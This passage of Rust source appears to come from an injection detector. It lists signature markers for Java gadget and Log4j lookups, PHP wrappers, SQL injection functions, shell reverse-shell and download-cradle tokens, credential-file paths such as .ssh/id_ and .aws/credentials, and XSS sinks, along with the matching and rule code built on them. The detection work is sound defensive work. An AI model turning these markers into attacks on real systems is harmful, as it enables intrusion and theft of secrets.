        ("${k8s:", Java, Any), ("${docker:", Java, Any), ("${spring:", Java, Any),
        ("${web:", Java, Any), ("${log4j:", Java, Any), ("${jvmrunargs", Java, Any),
        ("${event:", Java, Any), ("${marker:", Java, Any),
        ("java.lang.", Java, Start), ("java.io.", Java, Start), ("java.net.", Java, Start),
        ("java.nio.", Java, Start), ("java.rmi.", Java, Start), ("java.beans.", Java, Start),
        ("javax.script", Java, Start), ("javax.naming", Java, Start),
        ("javax.management", Java, Start), ("getruntime", Java, Any),
        ("processbuilder", Java, Any), ("classloader", Java, Any), ("class.module.", Java, Any),
        ("_memberaccess", Java, Any), ("ognlcontext", Java, Any), ("@ognl", Java, Any),
        ("%{(#", Java, Any), ("%{#", Java, Any), ("(#context", Java, Any),
        ("#context[", Java, Any), ("com.opensymphony.", Java, Any),
        ("com.sun.org.apache", Java, Any), ("com.sun.rowset", Java, Any),
        ("com.sun.jndi", Java, Any), ("org.apache.commons", Java, Any),
        ("org.omg.corba", Java, Any), ("org.springframework.", Java, Any),
        ("sun.misc.", Java, Start), ("sun.reflect.", Java, Start),
        ("scriptenginemanager", Java, Any), ("templatesimpl", Java, Any),
        ("invokertransformer", Java, Any), ("clonetransformer", Java, Any),
        ("instantiatetransformer", Java, Any), ("instantiatefactory", Java, Any),
        ("prototypeclonefactory", Java, Any), ("prototypeserializationfactory", Java, Any),
        ("chainedtransformer", Java, Any), ("constanttransformer", Java, Any),
        ("whileclosure", Java, Any), (".forclosure", Java, Any), ("aced0005", Java, Any),
        // PHP: open tags, BBCode-style tags, stream wrappers, superglobals, ini directives.
        ("<?php", Php, Any), ("<?=", Php, Any), ("[php]", Php, Any), ("[/php]", Php, Any),
        ("{php}", Php, Any), ("{/php}", Php, Any), ("php://", Php, Any), ("phar://", Php, Any),
        ("compress.zlib://", Php, Any), ("compress.bzip2://", Php, Any), ("zlib://", Php, Any),
        ("glob://", Php, Any), ("expect://", Php, Any), ("ssh2.shell://", Php, Any),
        ("ssh2.exec://", Php, Any), ("ssh2.tunnel://", Php, Any), ("ssh2.sftp://", Php, Any),
        ("ssh2.scp://", Php, Any), ("rar://", Php, Any), ("ogg://", Php, Any),
        ("zip://", Php, Any), ("$_get", Php, Whole), ("$_post", Php, Whole),
        ("$_request", Php, Whole), ("$_cookie", Php, Whole), ("$_server", Php, Whole),
        ("$_files", Php, Whole), ("$_env", Php, Whole), ("$_session", Php, Whole),
        ("$globals", Php, Whole), ("$http_raw_post_data", Php, Any),
        ("allow_url_include", Php, Any), ("allow_url_fopen", Php, Any),
        ("auto_prepend_file", Php, Any), ("auto_append_file", Php, Any),
        ("disable_functions", Php, Any), ("open_basedir", Php, Any), ("memory_limit", Php, Any),
        ("extension_dir", Php, Any), ("unserialize_max_depth", Php, Any), ("opcache.jit", Php, Any),
        ("mbstring.regex", Php, Any), ("[\\php]", Php, Any),
        // SQL: catalog objects, server variables and functions no prose contains.
        ("information_schema", Sql, Any), ("pg_catalog", Sql, Any), ("pg_shadow", Sql, Any),
        ("pg_sleep", Sql, Any), ("sysobjects", Sql, Whole), ("syscolumns", Sql, Whole),
        ("sysdatabases", Sql, Whole), ("msysaccessobjects", Sql, Any),
        ("msysobjects", Sql, Any), ("sqlite_master", Sql, Any), ("mysql.user", Sql, Whole),
        ("mysql.db", Sql, Whole), ("xp_cmdshell", Sql, Any), ("xp_dirtree", Sql, Any),
        ("xp_regread", Sql, Any), ("xp_fileexist", Sql, Any), ("sp_executesql", Sql, Any),
        ("sp_password", Sql, Any), ("sp_oacreate", Sql, Any), ("sp_makewebtask", Sql, Any),
        ("openrowset", Sql, Any), ("opendatasource", Sql, Any), ("utl_http", Sql, Any),
        ("utl_inaddr", Sql, Any), ("dbms_pipe", Sql, Any), ("dbms_lock", Sql, Any),
        ("dbms_xmlgen", Sql, Any), ("@@version", Sql, Any), ("@@datadir", Sql, Any),
        ("@@hostname", Sql, Any), ("@@basedir", Sql, Any), ("/*!", Sql, Any),
        ("into outfile", Sql, Whole), ("into dumpfile", Sql, Whole),
        ("load data infile", Sql, Whole), ("procedure analyse", Sql, Whole),
        ("benchmark", Sql, Call), ("load_file", Sql, Call), ("extractvalue", Sql, Call),
        ("updatexml", Sql, Call), ("group_concat", Sql, Call), ("concat_ws", Sql, Call),
        ("make_set", Sql, Call), ("xmltype", Sql, Call), ("lo_import", Sql, Call),
        ("lo_export", Sql, Call), ("lo_get", Sql, Call), ("sys_eval", Sql, Call),
        ("sys_exec", Sql, Call), ("db_name", Sql, Call), ("json_search", Sql, Call),
        ("json_extract", Sql, Call), ("starts_with", Sql, Call), ("coalesce", Sql, Call),
        ("ifnull", Sql, Call), ("nullif", Sql, Call), ("sysdate", Sql, Call),
        ("substring", Sql, Call), ("char_length", Sql, Call), ("unhex", Sql, Call),
        ("strcmp", Sql, Call), ("last_insert_id", Sql, Call), ("current_user", Sql, Whole),
        ("session_user", Sql, Call), ("system_user", Sql, Call), ("schema_name", Sql, Whole),
        ("unistr", Sql, Call), ("string_to_array", Sql, Call), ("pg_read_file", Sql, Call),
        ("concat", Sql, Call), ("find_in_set", Sql, Call), ("name_const", Sql, Call),
        ("sqlite_compileoption", Sql, Any), ("uncompress", Sql, Call), ("sqlite_version", Sql, Call),
        // Shell: reverse shells, IFS tricks, Windows/PowerShell download cradles.
        ("/dev/tcp/", Shell, Any), ("/dev/udp/", Shell, Any), ("${ifs", Shell, Any),
        ("$ifs", Shell, Whole), ("/bin/sh", Shell, Any), ("/bin/bash", Shell, Any),
        ("cmd.exe", Shell, Any), ("cmd /c", Shell, Start), ("cmd/c", Shell, Start),
        ("powershell", Shell, Start), ("invoke-expression", Shell, Any),
        ("invoke-webrequest", Shell, Any), ("invoke-command", Shell, Any),
        ("invoke-wmimethod", Shell, Any), ("downloadstring", Shell, Any),
        ("downloadfile", Shell, Any), ("net.webclient", Shell, Any), ("new-object", Shell, Start),
        ("start-process", Shell, Any), ("iex(", Shell, Start), ("certutil", Shell, Whole),
        ("bitsadmin", Shell, Whole), ("regsvr32", Shell, Whole), ("rundll32", Shell, Whole),
        ("mshta", Shell, Whole), ("%comspec%", Shell, Any), ("%systemroot%", Shell, Any),
        ("-urlcache", Shell, Any),
        // Path traversal / local file inclusion: well-known sensitive files.
        ("/etc/passwd", PathTraversal, Any), ("/etc/shadow", PathTraversal, Any),
        ("/etc/master.passwd", PathTraversal, Any), ("/etc/group", PathTraversal, Whole),
        ("/etc/sudoers", PathTraversal, Any), ("/etc/subuid", PathTraversal, Any),
        ("/etc/subgid", PathTraversal, Any), ("/etc/crontab", PathTraversal, Any),
        ("/etc/apache2/", PathTraversal, Any), ("/etc/httpd/", PathTraversal, Any),
        ("/proc/self/", PathTraversal, Any), ("/proc/version", PathTraversal, Any),
        ("/proc/cpuinfo", PathTraversal, Any), ("/proc/net/", PathTraversal, Any),
        ("/proc/sys/kernel", PathTraversal, Any), ("/proc/interrupts", PathTraversal, Any),
        ("/sys/class", PathTraversal, Any), ("/sys/kernel/", PathTraversal, Any),
        ("/root/.", PathTraversal, Any), (".ssh/id_", PathTraversal, Any),
        (".aws/credentials", PathTraversal, Any), (".docker/", PathTraversal, Any),
        (".kube/config", PathTraversal, Any), (".bash_history", PathTraversal, Any),
        (".zsh_history", PathTraversal, Any), (".mysql_history", PathTraversal, Any),
        (".htpasswd", PathTraversal, Any), ("boot.ini", PathTraversal, Whole),
        ("win.ini", PathTraversal, Whole), ("system.ini", PathTraversal, Whole),
        ("c:\\windows\\", PathTraversal, Any), ("c:/windows/", PathTraversal, Any),
        ("\\windows\\system32", PathTraversal, Any), ("/windows/system32", PathTraversal, Any),
        ("system32\\config", PathTraversal, Any), ("web-inf/", PathTraversal, Any),
        ("web-inf\\", PathTraversal, Any), ("meta-inf/", PathTraversal, Any),
        ("wp-config", PathTraversal, Any), ("httpd.conf", PathTraversal, Whole),
        ("apache2.conf", PathTraversal, Whole), ("/@fs/", PathTraversal, Any),
        ("/wp-content/debug.log", PathTraversal, Any), ("/wp-content/error.log", PathTraversal, Any),
        ("/wp-content/errors.log", PathTraversal, Any), ("0x2e0x2e", PathTraversal, Any),
        ("0x2e.", PathTraversal, Any), ("0x5c0x2e", PathTraversal, Any),
        ("0x2f0x2e", PathTraversal, Any), ("....//", PathTraversal, Any),
        ("....\\\\", PathTraversal, Any), ("..././", PathTraversal, Any),
        // Remote include / SSRF: schemes an include or fetch should never get from a user.
        ("file://", RemoteInclude, Start), ("url:file:", RemoteInclude, Any),
        ("local_file:", RemoteInclude, Any), ("gopher://", RemoteInclude, Start),
        ("dict://", RemoteInclude, Start), ("ldap://", RemoteInclude, Start),
        ("ldaps://", RemoteInclude, Start), ("jar:http", RemoteInclude, Start), ("jar:file", RemoteInclude, Start),
        ("jar:ftp", RemoteInclude, Start),
        ("netdoc:", RemoteInclude, Start), ("tftp://", RemoteInclude, Start),
        // Template engines: Python/Jinja introspection gadgets.
        ("__class__", Template, Any), ("__globals__", Template, Any),
        ("__builtins__", Template, Any), ("__subclasses__", Template, Any),
        ("__mro__", Template, Any), ("__import__", Template, Any),
        // HTML/JS: script-capable tags, sinks and schemes.
        ("javascript:", Html, Start), ("vbscript:", Html, Start), ("livescript:", Html, Start),
        ("document.cookie", Html, Any), ("document.domain", Html, Any),
        ("document.write", Html, Any), ("document.location", Html, Any),
        ("window.location", Html, Any), ("location.href", Html, Any), (".innerhtml", Html, Any),
        ("fromcharcode", Html, Any), ("constructor.constructor", Html, Any),
        ("-moz-binding", Html, Any), ("<!entity", Html, Any), ("<!doctype", Html, Any),
        ("xi:include", Html, Any), ("<!--#", Html, Any), ("+adw-", Html, Any), ("adw-script", Html, Any),
        ("<x:script", Html, Whole), ("<script", Html, Whole), ("</script", Html, Whole),
        ("<svg", Html, Whole), ("<iframe", Html, Whole), ("<embed", Html, Whole),
        ("<applet", Html, Whole), ("<object", Html, Whole), ("<meta", Html, Whole),
        ("<link", Html, Whole), ("<base", Html, Whole), ("<style", Html, Whole), ("<xss", Html, Whole),
        ("<noscript", Html, Whole), ("<import", Html, Whole), ("<?import", Html, Any),
        (":vmlframe", Html, Any), ("srcdoc", Html, Whole), ("settimeout", Html, Call),
        ("setinterval", Html, Call), ("alert", Html, Call), ("prompt", Html, Call),
        ("confirm", Html, Call), ("atob", Html, Call), ("btoa", Html, Call),
        ("new function", Html, Call), ("globaleval", Html, Any), ("getscript", Html, Call),
        ("appendchild", Html, Call), ("createelement", Html, Call),
        ("queryselector", Html, Call), ("url(javascript", Html, Any),
        (":expression(", Html, Any), ("=expression(", Html, Any), ("@import", Html, Start),
        ("data:text/html", Html, Any), ("data:image/svg", Html, Any),
    ];

    /// Trigger words: cheap presence bits that gate the structural rules.
    pub const UNION: u64 = 1;
    pub const SELECT: u64 = 1 << 1;
    pub const ORDER: u64 = 1 << 2;
    pub const HAVING: u64 = 1 << 3;
    pub const DECLARE: u64 = 1 << 4;
    pub const EXEC: u64 = 1 << 5;
    pub const SLEEP: u64 = 1 << 6;
    pub const WAITFOR: u64 = 1 << 7;
    pub const FOR: u64 = 1 << 8;
    pub const IF: u64 = 1 << 9;
    pub const ALIAS: u64 = 1 << 10;
    pub const JAVA: u64 = 1 << 11;
    pub const SESS: u64 = 1 << 12;
    pub const DATA: u64 = 1 << 13;
    pub const BOOL_OP: u64 = 1 << 14;
    pub const STATEMENT: u64 = 1 << 15;
    pub const JS_GLOBAL: u64 = 1 << 16;
    pub const FILENAME: u64 = 1 << 17;
    pub const SQL_WORD: u64 = 1 << 18;
    pub const BATCH: u64 = 1 << 19;

    #[rustfmt::skip]
    pub(super) const TRIGGERS: &[(&str, u64)] = &[
        ("union", UNION), ("select", SELECT), ("order", ORDER), ("having", HAVING),
        ("declare", DECLARE), ("exec", EXEC), ("sleep", SLEEP), ("waitfor", WAITFOR),
        ("for", FOR), ("if", IF), ("alias", ALIAS), ("java.", JAVA), ("sess_", SESS),
        ("data:", DATA), ("or", BOOL_OP), ("and", BOOL_OP), ("xor", BOOL_OP),
        ("||", BOOL_OP), ("&&", BOOL_OP), ("drop", STATEMENT), ("insert", STATEMENT),
        ("delete", STATEMENT), ("update", STATEMENT), ("truncate", STATEMENT),
        ("alter", STATEMENT), ("create", STATEMENT), ("shutdown", STATEMENT),
        ("replace", STATEMENT), ("set", STATEMENT), ("window", JS_GLOBAL), ("self", JS_GLOBAL),
        ("document", JS_GLOBAL), ("top", JS_GLOBAL), ("parent", JS_GLOBAL),
        ("frames", JS_GLOBAL), ("globalthis", JS_GLOBAL), ("filename=", FILENAME),
        ("except", UNION), ("intersect", UNION),
        ("select", SQL_WORD), ("union", SQL_WORD), ("insert", SQL_WORD), ("drop", SQL_WORD),
        ("exist", BATCH), ("defined", BATCH), ("errorlevel", BATCH), ("cmdextversion", BATCH),
        ("==", BATCH), (" equ ", BATCH), (" neq ", BATCH), (" lss ", BATCH), (" leq ", BATCH),
        (" gtr ", BATCH), (" geq ", BATCH),
        ("exec", SQL_WORD), ("sleep", SQL_WORD), ("benchmark", SQL_WORD), ("waitfor", SQL_WORD),
        ("having", SQL_WORD), ("null", SQL_WORD), ("regexp", SQL_WORD), ("iif(", SQL_WORD),
        ("convert(", SQL_WORD), ("cast(", SQL_WORD), ("concat", SQL_WORD), ("char(", SQL_WORD),
    ];

    /// Every pattern (markers, trigger words, then the base64 markers, which are matched
    /// without case and confirmed with it, since base64 is case-sensitive), indexed by its
    /// first bytes: each text position probes a bitmap of the 2-byte prefixes of the short
    /// patterns and a hashed bitmap of the 4-byte prefixes of the others (both fit in L1),
    /// and only a hit looks up the sorted candidate lists to confirm.
    struct Tables {
        patterns: Vec<Vec<u8>>,
        base64: Vec<String>,
        /// Hashed 4-byte prefixes of the patterns of [`KEY_LEN`] bytes or more.
        long_bits: [u64; 1024],
        long: Groups,
        /// The markers shorter than that, by index.
        short_markers: Vec<usize>,
    }

    /// Pattern indexes grouped by prefix key, found through a small open-addressing table.
    struct Groups {
        /// (key, start in `order`, count); count 0 marks an empty slot.
        slots: Vec<(u32, u16, u16)>,
        order: Vec<u16>,
    }

    impl Groups {
        fn build(mut keyed: Vec<(u32, u16)>, slots: usize) -> Groups {
            keyed.sort_unstable();
            let mut g = Groups {
                slots: vec![(0, 0, 0); slots],
                order: keyed.iter().map(|&(_, idx)| idx).collect(),
            };
            let mut from = 0;
            while let Some(&(key, _)) = keyed.get(from) {
                let count = keyed
                    .get(from..)
                    .unwrap_or_default()
                    .iter()
                    .take_while(|&&(k, _)| k == key)
                    .count();
                let mut h = g.home(key);
                while g.slots.get(h).is_some_and(|s| s.2 != 0) {
                    h = (h + 1) % slots;
                }
                if let (Some(slot), Ok(f), Ok(c)) = (
                    g.slots.get_mut(h),
                    u16::try_from(from),
                    u16::try_from(count),
                ) {
                    *slot = (key, f, c);
                }
                from += count;
            }
            g
        }
        fn home(&self, key: u32) -> usize {
            (key.wrapping_mul(0x85EB_CA77) >> 16) as usize % self.slots.len().max(1)
        }
        /// The pattern indexes whose prefix key is `key`.
        fn get(&self, key: u32) -> &[u16] {
            let mut h = self.home(key);
            for _ in 0..self.slots.len() {
                match self.slots.get(h) {
                    Some(&(k, from, count)) if count != 0 => {
                        if k == key {
                            let from = usize::from(from);
                            return self
                                .order
                                .get(from..from + usize::from(count))
                                .unwrap_or_default();
                        }
                    }
                    _ => return &[],
                }
                h = (h + 1) % self.slots.len();
            }
            &[]
        }
    }

    /// Folds ASCII case (and maps some punctuation together, which only costs a confirmation).
    const FOLD4: u32 = 0x2020_2020;

    fn slot(key4: u32) -> u32 {
        key4.wrapping_mul(0x9E37_79B1) >> 16
    }

    fn bit(bits: &[u64; 1024], i: u32) -> bool {
        bits.get((i >> 6) as usize)
            .is_some_and(|w| (w >> (i & 63)) & 1 != 0)
    }

    fn set_bit(bits: &mut [u64; 1024], i: u32) {
        if let Some(w) = bits.get_mut((i >> 6) as usize) {
            *w |= 1 << (i & 63);
        }
    }

    static TABLES: LazyLock<Tables> = LazyLock::new(|| {
        let base64 = base64_markers();
        let mut patterns: Vec<Vec<u8>> = MARKERS
            .iter()
            .map(|m| m.0.as_bytes().to_vec())
            .chain(TRIGGERS.iter().map(|t| t.0.as_bytes().to_vec()))
            .collect();
        patterns.extend(base64.iter().map(|p| p.as_bytes().to_vec()));
        let mut long_bits = [0; 1024];
        let mut long = Vec::new();
        for (idx, p) in patterns.iter().enumerate() {
            let Ok(idx) = u16::try_from(idx) else {
                continue;
            };
            let key = p
                .iter()
                .take(4)
                .rev()
                .fold(0u32, |k, &c| (k << 8) | u32::from(c))
                | FOLD4;
            if p.len() >= KEY_LEN {
                set_bit(&mut long_bits, slot(key));
                long.push((key, idx));
            }
        }
        let short_markers = (0..MARKERS.len())
            .filter(|&i| patterns.get(i).is_some_and(|p| p.len() < KEY_LEN))
            .collect();
        Tables {
            patterns,
            base64,
            long_bits,
            long: Groups::build(long, 1024),
            short_markers,
        }
    });

    /// The short trigger words that rules look for as whole words.
    const SHORT_WORDS: [&str; 7] = ["or", "and", "xor", "if", "for", "top", "set"];

    /// The first letters of [`SHORT_WORDS`], in both cases.
    static SHORT_FIRST: ByteTable = ByteTable::of(b"oaxiftsOAXIFTS");

    /// The index of `word` in [`SHORT_WORDS`].
    pub fn short_word(word: &str) -> Option<u8> {
        SHORT_WORDS
            .iter()
            .position(|w| *w == word)
            .and_then(|k| u8::try_from(k).ok())
    }

    /// Positions found by one pass: (what, where), the first `N`; past that only a flag, so the
    /// pass never allocates.
    pub struct Positions<K, const N: usize> {
        list: [(K, u32); N],
        len: usize,
        /// More found than recorded: callers must search the text themselves.
        pub overflow: bool,
    }

    impl<K: Copy + Default, const N: usize> Positions<K, N> {
        fn new() -> Self {
            Positions {
                list: [(K::default(), 0); N],
                len: 0,
                overflow: false,
            }
        }

        fn push(&mut self, what: usize, pos: usize)
        where
            K: TryFrom<usize>,
        {
            match (
                self.list.get_mut(self.len),
                K::try_from(what),
                u32::try_from(pos),
            ) {
                (Some(slot), Ok(k), Ok(p)) => {
                    *slot = (k, p);
                    self.len += 1;
                }
                _ => self.overflow = true,
            }
        }

        pub fn list(&self) -> &[(K, u32)] {
            self.list.get(..self.len).unwrap_or_default()
        }
    }

    /// Whole-word occurrences of [`SHORT_WORDS`]: (index, start), the first 64.
    pub type WordIndex = Positions<u8, 64>;

    impl WordIndex {
        /// One pass over `b`, 64 bytes at a time: bit masks of the word characters and of the
        /// letters the short words start with give the 2- and 3-letter words to compare.
        pub fn build(b: &[u8]) -> Self {
            let mut index = WordIndex::new();
            let masks = |chunk: &[u8]| {
                chunk
                    .iter()
                    .enumerate()
                    .fold((0u64, 0u64), |(word, first), (j, &c)| {
                        (
                            word | (u64::from(WORD.has(c)) << j),
                            first | (u64::from(SHORT_FIRST.has(c)) << j),
                        )
                    })
            };
            let mut chunks = b.chunks(64).enumerate().peekable();
            let mut carry = 0u64;
            while let Some((n, chunk)) = chunks.next() {
                let (word, first) = masks(chunk);
                let next = chunks
                    .peek()
                    .map_or(0, |(_, c)| masks(c.get(..4).unwrap_or(c)).0);
                let ext = u128::from(word) | (u128::from(next) << 64);
                let (w1, w2, w3) = ((ext >> 1) as u64, (ext >> 2) as u64, (ext >> 3) as u64);
                let starts = word & !((word << 1) | carry) & first;
                carry = word >> 63;
                // A 2-letter word (`w1`, not `w2`) or a 3-letter one (`w2`, not `w3`).
                let mut candidates = starts & w1 & (!w2 | !w3);
                while candidates != 0 {
                    let j = candidates.trailing_zeros() as usize;
                    candidates &= candidates - 1;
                    let s = n * 64 + j;
                    let len = if (w2 >> j) & 1 == 0 { 2 } else { 3 };
                    let w = b.get(s..s + len).unwrap_or_default();
                    if let Some(k) = SHORT_WORDS
                        .iter()
                        .position(|x| x.as_bytes().eq_ignore_ascii_case(w))
                    {
                        index.push(k, s);
                    }
                }
            }
            index
        }
    }

    /// Trigger-word positions recorded by the keyword pass.
    pub type Hits = Positions<u16, MAX_HITS>;

    pub const MAX_HITS: usize = 24;

    /// Patterns shorter than this are not in the keyword pass: short trigger words are looked
    /// up on demand, short markers where their bytes occur.
    pub const KEY_LEN: usize = 4;

    /// The trigger kinds that have a word shorter than [`KEY_LEN`].
    pub const SHORT_MASK: u64 = {
        let mut mask = 0;
        let mut rest = TRIGGERS;
        while let [(w, bit), tail @ ..] = rest {
            if w.len() < KEY_LEN {
                mask |= *bit;
            }
            rest = tail;
        }
        mask
    };

    /// The trigger words shorter than [`KEY_LEN`] (a test checks they match [`TRIGGERS`]),
    /// with their kind and the bytes they need (see [`ByteSet::has_all`]).
    pub const SHORT_TRIGGERS: [(&str, u64, (u64, u64)); 10] = [
        ("for", FOR, ByteSet::need(b"for")),
        ("if", IF, ByteSet::need(b"if")),
        ("or", BOOL_OP, ByteSet::need(b"or")),
        ("and", BOOL_OP, ByteSet::need(b"and")),
        ("xor", BOOL_OP, ByteSet::need(b"xor")),
        ("||", BOOL_OP, ByteSet::need(b"||")),
        ("&&", BOOL_OP, ByteSet::need(b"&&")),
        ("set", STATEMENT, ByteSet::need(b"set")),
        ("top", JS_GLOBAL, ByteSet::need(b"top")),
        ("==", BATCH, ByteSet::need(b"==")),
    ];

    static TRIGGER_INDEX: LazyLock<HashMap<&'static str, u16, WordHash>> = LazyLock::new(|| {
        let mut m = HashMap::default();
        for (i, (w, _)) in TRIGGERS.iter().enumerate() {
            if let Ok(i) = u16::try_from(i) {
                m.entry(*w).or_insert(i);
            }
        }
        m
    });

    /// The index of the first trigger entry for `word`.
    pub fn trigger_index(word: &str) -> Option<u16> {
        TRIGGER_INDEX.get(word).copied()
    }

    /// What the keyword pass found.
    pub struct Found {
        /// Which bytes occur.
        pub bytes: ByteSet,
        /// Per injection kind, the first confirmed marker in the order an overlapping
        /// Aho-Corasick search reports matches (by end, then longest first, then by pattern
        /// index), with that order key.
        pub markers: [Option<(u64, &'static str)>; 8],
        /// Trigger words of [`KEY_LEN`] bytes or more present (see [`TRIGGERS`]).
        pub words: u64,
        /// Where those trigger words occur: (trigger index, start), the first [`MAX_HITS`].
        pub hits: Hits,
    }

    /// The bytes, first conclusive marker per injection kind, trigger words present, and where.
    pub fn find(b: &[u8]) -> Found {
        let t = Text(b);
        let tables = &*TABLES;
        let mut seen = [0u8; 256];
        let mut f = Found {
            bytes: ByteSet::EMPTY,
            markers: [None; 8],
            words: 0,
            hits: Hits::new(),
        };
        // The four bytes ending at `i`, first byte lowest.
        let mut key = 0u32;
        let mut bytes = b.iter();
        for &c in bytes.by_ref().take(3) {
            if let Some(flag) = seen.get_mut(usize::from(c)) {
                *flag = 1;
            }
            key = (key >> 8) | (u32::from(c) << 24);
        }
        for (start, &c) in bytes.enumerate() {
            if let Some(flag) = seen.get_mut(usize::from(c)) {
                *flag = 1;
            }
            key = (key >> 8) | (u32::from(c) << 24);
            probe(tables, t, start, key, &mut f);
        }
        // The last three starts, zero-padded.
        let n = b.len();
        for start in n.saturating_sub(3)..n {
            let k = key
                .checked_shr(8 * u32::try_from(start + 4 - n).unwrap_or(4))
                .unwrap_or(0);
            probe(tables, t, start, k, &mut f);
        }
        f.bytes = ByteSet::from_flags(&seen, !b.is_ascii());
        for &idx in &tables.short_markers {
            let Some(pat) = tables.patterns.get(idx) else {
                continue;
            };
            if pat.iter().all(|&c| f.bytes.has(c)) {
                let mut from = 0;
                while let Some(p) = find_ci(b, pat, from) {
                    from = p + 1;
                    confirm(tables, t, p, idx, &mut f);
                }
            }
        }
        f
    }

    /// Every pattern of [`KEY_LEN`] bytes or more occurring at `start`, whose first four bytes
    /// are `key`.
    #[inline(always)]
    fn probe(tables: &Tables, t: Text, start: usize, key: u32, f: &mut Found) {
        let key = key | FOLD4;
        if bit(&tables.long_bits, slot(key)) {
            for &idx in tables.long.get(key) {
                confirm(tables, t, start, usize::from(idx), f);
            }
        }
    }

    fn confirm(tables: &Tables, t: Text, start: usize, idx: usize, f: &mut Found) {
        let Some(pat) = tables.patterns.get(idx) else {
            return;
        };
        let end = start + pat.len();
        if !t
            .0
            .get(start..end)
            .is_some_and(|w| w.eq_ignore_ascii_case(pat))
        {
            return;
        }
        // (end, longest first, pattern index), packed.
        let order = ((end as u64) << 24) | ((255 - pat.len().min(255) as u64) << 16) | idx as u64;
        let mut mark = |kind: Injection, name: &'static str| {
            if let Some(slot) = f.markers.get_mut(kind as usize)
                && slot.is_none_or(|(o, _)| order < o)
            {
                *slot = Some((order, name));
            }
        };
        if let Some(&(name, kind, check)) = MARKERS.get(idx) {
            if confirmed(t, start, end, check) {
                mark(kind, name);
            }
        } else if let Some(&(_, bit)) = TRIGGERS.get(idx - MARKERS.len()) {
            f.words |= bit;
            f.hits.push(idx - MARKERS.len(), start);
        } else {
            let k = idx - MARKERS.len() - TRIGGERS.len();
            if tables
                .base64
                .get(k)
                .is_some_and(|p| t.slice(start, end) == p.as_bytes())
            {
                mark(
                    Java,
                    if k < 3 {
                        "java-serialized-base64"
                    } else {
                        "java-gadget-base64"
                    },
                );
            }
        }
    }

    fn confirmed(t: Text, start: usize, end: usize, check: Check) -> bool {
        match check {
            Any => true,
            Start => t.word_start(start),
            Whole => t.word_start(start) && !t.is_word(end),
            Call => {
                t.word_start(start) && !t.is_word(end) && {
                    let (j, _) = t.skip_code_space(end);
                    t.at(j) == b'('
                }
            }
        }
    }

    /// Java serialized-object magic (`AC ED 00 05`) and Commons-Collections gadget names as
    /// they appear in base64 at each of the three byte alignments.
    fn base64_markers() -> Vec<String> {
        const WORDS: &[&str] = &[
            "runtime",
            "processbuilder",
            "clonetransformer",
            "forclosure",
            "instantiatefactory",
            "instantiatetransformer",
            "invokertransformer",
            "prototypeclonefactory",
            "prototypeserializationfactory",
            "whileclosure",
        ];
        let mut out = vec![
            "rO0AB".to_string(),
            "KztAA".to_string(),
            "Cs7QA".to_string(),
        ];
        for w in WORDS {
            for shift in 0..3 {
                out.push(base64_core(w.as_bytes(), shift));
            }
        }
        out
    }

    /// The base64 characters fully determined by `word` when it starts `shift` bytes into a
    /// 3-byte group (characters mixed with unknown neighbouring bytes are dropped).
    pub(super) fn base64_core(word: &[u8], shift: usize) -> String {
        const ALPHA: &[u8; 64] =
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut bytes = vec![0u8; shift];
        bytes.extend_from_slice(word);
        let mut enc = String::new();
        for chunk in bytes.chunks(3) {
            let get = |k: usize| u32::from(chunk.get(k).copied().unwrap_or(0));
            let n = (get(0) << 16) | (get(1) << 8) | get(2);
            for k in 0..=chunk.len() {
                let idx = ((n >> (18 - 6 * k)) & 63) as usize;
                enc.push(char::from(ALPHA.get(idx).copied().unwrap_or(b'A')));
            }
        }
        let skip = [0, 2, 3].get(shift).copied().unwrap_or(0);
        let tail = usize::from(!(shift + word.len()).is_multiple_of(3));
        enc.get(skip..enc.len().saturating_sub(tail))
            .unwrap_or_default()
            .to_string()
    }
}

// ---------------------------------------------------------------------------------------------
// Java
// ---------------------------------------------------------------------------------------------

mod java {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("log4j-nested-lookup", Gate::all(b"${"), nested_lookup),
        (
            "java-class-runtime",
            Gate::words(keywords::JAVA),
            class_with_runtime,
        ),
        ("jsp-upload", Gate::all(b"."), jsp_upload),
    ];

    /// Log4Shell obfuscation nests lookups inside `${…}` (`${${::-j}ndi:`); bash's `${a:-b}`
    /// defaults do not nest, so a `${` inside a `${…}` is the signal.
    fn nested_lookup(s: &Scan) -> bool {
        let t = s.t;
        let mut from = 0;
        while let Some(p) = find(t.0, b"${", from) {
            from = p + 2;
            let window = t.slice(p + 2, p + 2 + 200);
            let end = mchr(b'}', window).unwrap_or(window.len());
            if find(window.get(..end).unwrap_or_default(), b"${", 0).is_some() {
                return true;
            }
        }
        false
    }

    /// `java.Runtime`, `java.evil.ProcessBuilder`: a `java.` class path naming process classes.
    fn class_with_runtime(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::JAVA) && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find_ci(t.0, b"java.", from) {
                from = p + 5;
                let mut e = p + 5;
                while t.is_word(e) || t.at(e) == b'.' {
                    e += 1;
                }
                let token = Text(t.slice(p, e));
                if t.word_start(p)
                    && (token.contains_ci(b"runtime") || token.contains_ci(b"processbuilder"))
                {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }

    /// A JSP web shell upload: a file name ending in `.jsp`/`.jspx`.
    fn jsp_upload(s: &Scan) -> bool {
        upload_extension(s, &["jsp", "jspx", "jspf", "jsw", "jsv"])
    }
}

/// A value that is a file name (one token, allowing the `name. ext` and trailing-dot tricks
/// used against upload filters) ending in one of `exts`, or a multipart `filename="…"` doing so.
fn upload_extension(s: &Scan, exts: &[&str]) -> bool {
    // A name can only end in (or hold) an extension whose letters all occur.
    if !s.has(b'.') || !exts.iter().any(|e| e.bytes().all(|c| s.has_ci(c))) {
        return false;
    }
    let b = s.t.0;
    let whole = trim_ascii(b);
    if whole.len() <= 255 && !whole.contains(&b'\n') && name_has_ext(whole, exts) {
        return true;
    }
    s.word(keywords::FILENAME) && {
        let mut from = 0;
        let mut hit = false;
        while let Some(p) = find_ci(b, b"filename=\"", from) {
            let start = p + 10;
            let end = mchr(b'"', s.t.slice(start, b.len())).map_or(b.len(), |e| start + e);
            if name_has_ext(s.t.slice(start, end), exts) {
                hit = true;
                break;
            }
            from = start;
        }
        hit
    }
}

fn name_has_ext(name: &[u8], exts: &[&str]) -> bool {
    let mut name = name;
    while let Some((&last, rest)) = name.split_last() {
        if last != b'.' && last != b' ' {
            break;
        }
        name = rest;
    }
    // Both checks below need a dot with no space before the last one (prose fails here).
    let Some(dot) = mrchr(b'.', name) else {
        return false;
    };
    let stem = name.get(..dot).unwrap_or_default();
